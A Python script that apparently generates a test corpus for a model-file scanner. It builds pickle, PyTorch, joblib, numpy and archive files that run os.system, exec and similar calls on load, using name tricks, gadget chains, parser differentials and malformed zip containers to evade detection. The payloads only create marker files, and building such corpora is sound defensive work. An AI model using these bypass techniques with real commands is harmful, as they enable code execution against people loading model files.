"""Malicious corpus: one sample per bypass technique of design note section 4.6.

Every payload is harmless: it creates a marker file (or directory) named after the sample
in the corpus' marker directory, so a test can prove the sample really runs code when its
natural loader opens it. Run as a script to write the corpus: ``python malicious.py OUT``.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import sys
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from pickleasm import (  # noqa: E402
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    POP,
    PROTO2,
    PROTO4,
    REDUCE,
    SETITEMS,
    STOP,
    TUPLE,
    by,
    call,
    frame,
    g,
    program,
    sg,
    u,
)

TORCH_MAGIC = 0x1950A86A20F9469CFC6C


@dataclass(frozen=True)
class Sample:
    """One malicious file: where it is, how it is loaded, which marker it creates."""

    name: str
    category: str
    path: Path
    loader: str
    marker: Path
    torch: bool = False


class Builder:
    """Writes samples into `root/files` with markers under `root/markers`."""

    def __init__(self, root: Path) -> None:
        self.files = root / "files"
        self.markers = root / "markers"
        self.files.mkdir(parents=True, exist_ok=True)
        self.markers.mkdir(parents=True, exist_ok=True)
        self.samples: list[Sample] = []
        self.name = ""

    # payload helpers: each returns pickle opcodes that create the current marker
    @property
    def m(self) -> str:
        return str(self.markers / self.name)

    @property
    def sh(self) -> str:
        return f"touch {self.m}"

    @property
    def py(self) -> str:
        return f"open({self.m!r}, 'w').close()"

    def system(self) -> bytes:
        return call(sg("os", "system"), u(self.sh))

    def add(
        self, name: str, category: str, loader: str, fname: str, data: bytes, torch: bool = False
    ) -> None:
        path = self.files / fname
        path.write_bytes(data)
        self.samples.append(Sample(name, category, path, loader, self.markers / name, torch))

    def sample(self, name: str) -> Builder:
        self.name = name
        return self


def _torch_zip(
    data_pkl: bytes, *, name: str = "archive/data.pkl", extra: dict[str, bytes] | None = None
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(name, data_pkl)
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/version", b"3\n")
        for k, v in (extra or {}).items():
            z.writestr(k, v)
    return buf.getvalue()


def _legacy(sys_info: bytes, obj: bytes | None = None) -> bytes:
    return (
        pickle.dumps(TORCH_MAGIC, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + sys_info
        + (obj or pickle.dumps({}, protocol=2))
        + pickle.dumps([], protocol=2)
    )


def _joblib(payload_pickle_obj: object, compress: object) -> bytes:
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump({"a": np.arange(4.0), "x": payload_pickle_obj}, buf, compress=compress)
    return buf.getvalue()


class _Raw:
    """An object whose pickle is the given opcode bytes (via a custom reduce)."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (self.cmd,))


def build(root: Path) -> list[Sample]:
    """Write every malicious sample under `root`; returns their descriptions."""
    b = Builder(root)
    _callable_reach(b)
    _name_tricks(b)
    _gadgets(b)
    _differentials(b)
    _containers(b)
    _nested(b)
    return b.samples


def _callable_reach(b: Builder) -> None:
    c = "callable-reach"
    for name, mod, fn, arg in [
        ("os_system", "os", "system", "sh"),
        ("posix_system", "posix", "system", "sh"),
        ("builtins_exec", "builtins", "exec", "py"),
        ("builtins_eval", "builtins", "eval", "py"),
        ("timeit_timeit", "timeit", "timeit", "py"),
        ("profile_run", "profile", "run", "py"),
        ("cprofile_run", "cProfile", "run", "py"),
        ("numpy_runstring", "numpy.testing._private.utils", "runstring", None),
        ("collect_env_run", "torch.utils.collect_env", "run", "sh"),
        ("codecs_open", "codecs", "open", "w"),
        ("io_open", "io", "open", "w"),
        ("_io_open", "_io", "open", "w"),
        ("_io_fileio", "_io", "FileIO", "w"),
        ("builtins_open", "builtins", "open", "w"),
        ("logging_filehandler", "logging", "FileHandler", "one"),
        ("zipfile_zipfile", "zipfile", "ZipFile", "w"),
        ("tarfile_open", "tarfile", "open", "w"),
        ("sqlite3_connect", "sqlite3", "connect", "one"),
        ("os_mkdir", "os", "mkdir", "one"),
        ("pip_ensure_dir", "pip._internal.utils.misc", "ensure_dir", "one"),
        ("runpy_run_code", "runpy", "_run_code", "code"),
    ]:
        b.sample(name)
        if arg == "sh":
            args = [u(b.sh)]
        elif arg == "py":
            args = [u(b.py)]
        elif arg == "w":
            args = [u(b.m), u("w")]
        elif arg == "one":
            args = [u(b.m)]
        elif arg == "code":
            args = [u(b.py), EMPTY_DICT]
        else:
            args = [u(b.py), EMPTY_DICT]
        torch = mod.startswith("torch")
        b.add(name, c, "pickle", f"{name}.pkl", program(call(sg(mod, fn), *args)), torch)
    b.sample("exec_wrapper")
    b.add(
        "exec_wrapper",
        c,
        "pickle",
        "exec_wrapper.pkl",
        program(
            call(
                sg("torch.jit.unsupported_tensor_ops", "execWrapper"),
                u(b.py),
                EMPTY_DICT,
                EMPTY_DICT,
            )
        ),
        torch=True,
    )
    b.sample("subprocess_popen")
    b.add(
        "subprocess_popen",
        c,
        "pickle",
        "popen.pkl",
        program(call(sg("subprocess", "call"), MARK + u("touch") + u(b.m) + b"l")),
    )
    b.sample("spawnv_passfds")
    b.add(
        "spawnv_passfds",
        c,
        "pickle",
        "spawnv.pkl",
        program(
            call(
                sg("multiprocessing.util", "spawnv_passfds"),
                by(b"/usr/bin/touch"),
                MARK + by(b"touch") + by(b.m.encode()) + b"l",
                b"]",
            )
        ),
    )


def _name_tricks(b: Builder) -> None:
    c = "name-tricks"
    b.sample("dotted_pathlib_os")
    b.add(
        "dotted_pathlib_os",
        c,
        "pickle",
        "dotted.pkl",
        program(call(sg("pathlib", "os.system"), u(b.sh))),
    )
    b.sample("builtin_alias_p2")
    b.add(
        "builtin_alias_p2",
        c,
        "pickle",
        "builtin_alias.pkl",
        program(call(g("__builtin__", "eval"), u(b.py)), PROTO2),
    )
    b.sample("main_builtins_dunder")
    b.add(
        "main_builtins_dunder",
        c,
        "pickle",
        "main_dunder.pkl",
        program(call(sg("__main__", "__builtins__.exec"), u(b.py))),
    )
    b.sample("import_getattr")
    os_mod = call(sg("builtins", "__import__"), u("os"))
    system = call(sg("builtins", "getattr"), os_mod, u("system"))
    b.add("import_getattr", c, "pickle", "import_getattr.pkl", program(call(system, u(b.sh))))
    b.sample("pathlib_touch_method")
    path = call(sg("pathlib", "PosixPath"), u(b.m))
    b.add(
        "pathlib_touch_method",
        c,
        "pickle",
        "pathlib_touch.pkl",
        program(call(sg("pathlib", "Path.touch"), path)),
    )
    b.sample("pkgutil_resolve")
    fn = call(sg("pkgutil", "resolve_name"), u("os:system"))
    b.add("pkgutil_resolve", c, "pickle", "pkgutil.pkl", program(call(fn, u(b.sh))))


def _gadgets(b: Builder) -> None:
    c = "gadget-composition"
    b.sample("dict_get_builtins")
    # modelscan#330 family: a getitem gadget from "harmless" pieces; numpy.__builtins__
    # is a dict and the dotted builtins `dict.get` fetches `exec` from it.
    fn = call(sg("builtins", "dict.get"), sg("numpy", "__builtins__"), u("exec"))
    b.add("dict_get_builtins", c, "pickle", "dict_get.pkl", program(call(fn, u(b.py))))
    b.sample("build_setattr_namespace")
    # BUILD plants the command on a "data" object; REDUCE then passes that object's
    # attribute-free value to os.system via getattr.
    holder = (
        sg("argparse", "Namespace")
        + EMPTY_TUPLE
        + NEWOBJ
        + EMPTY_DICT
        + MARK
        + u("cmd")
        + u(b.sh)
        + SETITEMS
        + BUILD
    )
    cmd = call(sg("builtins", "getattr"), holder, u("cmd"))
    b.add(
        "build_setattr_namespace",
        c,
        "pickle",
        "build_setattr.pkl",
        program(call(sg("os", "system"), cmd)),
    )
    b.sample("rebuild_from_type_exec")
    b.add(
        "rebuild_from_type_exec",
        c,
        "pickle",
        "rebuild_from_type.pkl",
        program(
            call(
                sg("torch._tensor", "_rebuild_from_type_v2"),
                sg("builtins", "exec"),
                sg("torch", "Tensor"),
                MARK + u(b.py) + TUPLE,
                EMPTY_DICT,
            )
        ),
        torch=True,
    )
    b.sample("copyreg_reconstructor_popen")
    b.add(
        "copyreg_reconstructor_popen",
        c,
        "pickle",
        "reconstructor.pkl",
        program(
            call(
                sg("copyreg", "_reconstructor"),
                sg("subprocess", "Popen"),
                sg("subprocess", "Popen"),
                MARK + u("touch") + u(b.m) + b"l",
            )
        ),
    )
    b.sample("functools_partial")
    part = call(sg("functools", "partial"), sg("os", "system"), u(b.sh))
    b.add("functools_partial", c, "pickle", "partial.pkl", program(call(part)))
    b.sample("operator_attrgetter")
    getter = call(sg("_operator", "attrgetter"), u("system"))
    fn = call(getter, call(sg("builtins", "__import__"), u("os")))
    b.add("operator_attrgetter", c, "pickle", "attrgetter.pkl", program(call(fn, u(b.sh))))
    b.sample("map_list")
    mapped = call(sg("builtins", "map"), sg("os", "system"), MARK + u(b.sh) + b"l")
    b.add("map_list", c, "pickle", "map_list.pkl", program(call(sg("builtins", "list"), mapped)))
    b.sample("methodcaller")
    mc = call(sg("operator", "methodcaller"), u("system"), u(b.sh))
    b.add(
        "methodcaller",
        c,
        "pickle",
        "methodcaller.pkl",
        program(call(mc, call(sg("importlib", "import_module"), u("os")))),
    )


def _differentials(b: Builder) -> None:
    c = "parser-differential"
    b.sample("frame_straddle")
    # A FRAME holding `c` plus junk: CPython's C unpickler reading a file looks for the
    # GLOBAL newline in the frame buffer, misses, and reads the line after the frame.
    tail = b"os\nsystem\n" + MARK + b"V" + b.sh.encode() + b"\n" + TUPLE + REDUCE + STOP
    # The frame is longer than the C unpickler's 8 KiB peek, so it is read exactly.
    trick = PROTO4 + frame(b"c" + b"X" * 16384) + tail
    b.add("frame_straddle", c, "pickle", "frame.pkl", trick)
    b.sample("frame_straddle_torch")
    tail = b"os\nsystem\n" + MARK + b"V" + b.sh.encode() + b"\n" + TUPLE + REDUCE + STOP
    b.add(
        "frame_straddle_torch",
        c,
        "torch",
        "frame_torch.pt",
        _torch_zip(PROTO4 + frame(b"cX") + tail),
        torch=True,
    )
    b.sample("string_operands")
    body = b"S'os'\nS'system'\n\x93" + MARK + u(b.sh) + TUPLE + REDUCE
    b.add("string_operands", c, "pickle", "string_operands.pkl", program(body))
    b.sample("binstring_operands")
    body = b"U\x02osU\x06system\x93" + MARK + u(b.sh) + TUPLE + REDUCE
    b.add("binstring_operands", c, "pickle", "binstring_operands.pkl", program(body))
    b.sample("memo_overwrite")
    body = (
        u("builtins")
        + b"q\x00"
        + POP
        + u("os")
        + b"q\x00"
        + POP
        + b"h\x00"
        + u("system")
        + b"\x93"
        + MARK
        + u(b.sh)
        + TUPLE
        + REDUCE
    )
    b.add("memo_overwrite", c, "pickle", "memo_overwrite.pkl", program(body))
    b.sample("broken_after_payload")
    b.add("broken_after_payload", c, "pickle", "broken.pkl", PROTO4 + b.system() + b"\xff")
    b.sample("protocol0_text")
    b.add(
        "protocol0_text",
        c,
        "pickle",
        "proto0.pkl",
        b"cposix\nsystem\n(V" + b.sh.encode() + b"\ntR.",
    )
    b.sample("late_proto")
    b.add("late_proto", c, "pickle", "late_proto.pkl", b"N" + POP + b"\x80\x02" + b.system() + STOP)
    b.sample("stack_leftover")
    b.add("stack_leftover", c, "pickle", "leftover.pkl", program(b.system() + u("junk")))
    b.sample("concatenated")
    b.add(
        "concatenated", c, "pickle-all", "concat.pkl", pickle.dumps({"ok": 1}) + program(b.system())
    )
    b.sample("legacy_sys_info")
    b.add(
        "legacy_sys_info",
        c,
        "torch",
        "legacy_sysinfo.pt",
        _legacy(program(b.system(), PROTO2)),
        torch=True,
    )
    b.sample("legacy_magic_reduce")
    b.add(
        "legacy_magic_reduce",
        c,
        "torch",
        "legacy_magic.pt",
        program(b.system(), PROTO2)
        + pickle.dumps(1001, 2)
        + pickle.dumps({}, 2)
        + pickle.dumps({}, 2)
        + pickle.dumps([], 2),
        torch=True,
    )


def _patch_zip(data: bytes, fn: object) -> bytes:
    raw = bytearray(data)
    fn(raw)  # type: ignore[operator]
    return bytes(raw)


def _containers(b: Builder) -> None:
    c = "container"
    b.sample("raw_pickle_as_pt")
    b.add("raw_pickle_as_pt", c, "torch", "raw.pt", program(b.system(), PROTO2), torch=True)
    b.sample("zip_odd_member_name")
    b.add(
        "zip_odd_member_name",
        c,
        "torch",
        "odd_name.pt",
        _torch_zip(
            program(b.system()),
            name="archive/data.pkl",
            extra={"archive/extra/payload.bin": program(b.system())},
        ),
        torch=True,
    )

    def flags(raw: bytearray) -> None:
        # Only the local header: miniz reads the central directory's flags and refuses
        # encryption there, Python's zipfile checks the local header and refuses here.
        pos = raw.find(b"PK\x03\x04")
        raw[pos + 6] |= 0x01

    b.sample("zip_flag_bits")
    b.add(
        "zip_flag_bits",
        c,
        "torch",
        "flags.pt",
        _patch_zip(_torch_zip(program(b.system())), flags),
        torch=True,
    )

    def crc(raw: bytearray) -> None:
        for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
            pos = raw.find(sig)
            raw[pos + off] ^= 0xFF

    b.sample("zip_bad_crc")
    b.add(
        "zip_bad_crc",
        c,
        "torch",
        "crc.pt",
        _patch_zip(_torch_zip(program(b.system())), crc),
        torch=True,
    )

    def rename(raw: bytearray) -> None:
        pos = raw.find(b"PK\x03\x04")
        name_at = pos + 30
        raw[name_at : name_at + 7] = b"ARCHIVE"

    b.sample("zip_name_mismatch")
    b.add(
        "zip_name_mismatch",
        c,
        "torch",
        "name_mismatch.pt",
        _patch_zip(_torch_zip(program(b.system())), rename),
        torch=True,
    )
    b.sample("zip_duplicate")
    buf = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("archive/data.pkl", program(b.system()))
            z.writestr("archive/byteorder", b"little")
            z.writestr("archive/version", b"3\n")
            z.writestr("archive/data.pkl", program(b.system()))
    b.add("zip_duplicate", c, "torch", "duplicate.pt", buf.getvalue(), torch=True)
    b.sample("zip_prepended_pickle")
    b.add(
        "zip_prepended_pickle",
        c,
        "torch",
        "prepended.pt",
        program(b.system(), PROTO2) + _torch_zip(pickle.dumps({}, 2)),
        torch=True,
    )
    b.sample("legacy_tar")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for member, data in (
            ("sys_info", pickle.dumps({}, 2)),
            ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
            ("tensors", pickle.dumps(0, 2)),
            ("pickle", program(b.system(), PROTO2)),
        ):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    b.add("legacy_tar", c, "torch", "legacy.tar.pt", tbuf.getvalue(), torch=True)
    b.sample("gzip_pickle")
    b.add("gzip_pickle", c, "gzip", "evil.pkl.gz", gzip.compress(program(b.system())))
    b.sample("bz2_pickle")
    b.add("bz2_pickle", c, "bz2", "evil.pkl.bz2", bz2.compress(program(b.system())))
    b.sample("xz_pickle")
    b.add("xz_pickle", c, "xz", "evil.pkl.xz", lzma.compress(program(b.system())))
    for kind in ("zlib", "gzip", "bz2", "xz", "lzma"):
        name = f"joblib_{kind}"
        b.sample(name)
        b.add(name, c, "joblib", f"{name}.joblib", _joblib(_Raw(b.sh), (kind, 3)))
    b.sample("joblib_after_array")
    b.add("joblib_after_array", c, "joblib", "after_array.joblib", _joblib(_Raw(b.sh), 0))
    b.sample("joblib_object_array")
    import numpy as np

    arr = np.array([1, _Raw(b.sh)], dtype=object)
    b.add("joblib_object_array", c, "joblib", "objarr.joblib", _joblib(arr, 0))
    b.sample("npy_object")
    nbuf = io.BytesIO()
    np.save(nbuf, np.array([_Raw(b.sh)], dtype=object), allow_pickle=True)
    b.add("npy_object", c, "numpy", "obj.npy", nbuf.getvalue())
    b.sample("npz_member")
    zbuf = io.BytesIO()
    np.savez(zbuf, ok=np.arange(3), evil=np.array([_Raw(b.sh)], dtype=object))
    b.add("npz_member", c, "numpy", "evil.npz", zbuf.getvalue())
    b.sample("nested_zip")
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("model/weights.bin", program(b.system()))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("bundle/inner.zip", inner.getvalue())
    b.add("nested_zip", c, "zip", "nested.zip", outer.getvalue())
    b.sample("sevenzip")
    try:
        import py7zr

        sbuf = io.BytesIO()
        with py7zr.SevenZipFile(sbuf, "w") as z:
            z.writestr(program(b.system()), "model.bin")
        b.add("sevenzip", c, "7z", "evil.7z", sbuf.getvalue())
    except ImportError:
        pass


def _nested(b: Builder) -> None:
    c = "nested-deserialiser"
    b.sample("pickle_loads")
    b.add(
        "pickle_loads",
        c,
        "pickle",
        "pickle_loads.pkl",
        program(call(sg("pickle", "loads"), by(program(b.system())))),
    )
    b.sample("_pickle_loads")
    b.add(
        "_pickle_loads",
        c,
        "pickle",
        "_pickle_loads.pkl",
        program(call(sg("_pickle", "loads"), by(program(b.system())))),
    )
    b.sample("pickle_loads_codecs")
    inner = program(b.system()).decode("latin-1")
    b.add(
        "pickle_loads_codecs",
        c,
        "pickle",
        "pickle_loads_codecs.pkl",
        program(
            call(g("pickle", "loads"), call(g("_codecs", "encode"), u(inner), u("latin1"))), PROTO2
        ),
    )
    b.sample("load_from_bytes")
    b.add(
        "load_from_bytes",
        c,
        "pickle",
        "load_from_bytes.pkl",
        program(
            call(sg("torch.storage", "_load_from_bytes"), by(_legacy(program(b.system(), PROTO2))))
        ),
        torch=True,
    )


def main() -> None:
    """Write the corpus into the directory given on the command line."""
    out = Path(sys.argv[1])
    for s in build(out):
        print(f"{s.category:22} {s.loader:10} {s.path.name}")


if __name__ == "__main__":
    main()
